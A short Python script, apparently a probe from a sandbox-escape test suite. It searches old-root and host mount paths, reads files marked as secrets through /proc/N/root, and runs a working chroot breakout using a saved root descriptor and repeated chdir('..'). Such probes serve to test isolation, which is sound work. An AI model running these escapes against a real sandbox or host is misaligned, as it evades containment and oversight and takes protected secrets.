"""Looks for old root folders and other ways to the host's files."""

import os

from attack import TARGETS, attempt, done

for place in ("/oldroot", "/newroot", "/.oldroot", "/host", "/mnt", "/media", "/proc/1/root/oldroot", "/.box"):
    attempt(place, lambda place=place: os.listdir(place))
for number in range(3000):
    for secret in TARGETS["secrets"]:
        try:
            print("ESCAPED:", open(f"/proc/{number}/root{secret}").read())
        except OSError:
            pass
os.mkdir("jail")
here = os.open("/", os.O_RDONLY)
attempt("chroot", lambda: os.chroot("jail"))
os.fchdir(here)
for _ in range(50):
    os.chdir("..")
for secret in TARGETS["secrets"]:
    attempt("above the root", lambda secret=secret: open(secret.lstrip("/")).read())
done()
